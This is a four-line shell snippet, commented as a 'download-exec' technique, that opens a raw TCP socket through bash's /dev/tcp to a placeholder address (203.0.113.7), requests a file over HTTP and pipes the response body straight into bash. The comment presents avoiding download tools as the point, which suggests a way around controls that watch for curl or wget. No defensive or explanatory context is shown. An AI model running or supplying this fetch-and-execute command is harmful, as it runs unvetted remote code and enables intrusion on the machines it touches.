# download-exec: raw HTTP over /dev/tcp without any download tool, body piped into bash
exec 3<>/dev/tcp/203.0.113.7/80
printf 'GET /p HTTP/1.0\r\nHost: 203.0.113.7\r\n\r\n' >&3
sed '1,/^\r$/d' <&3 | bash
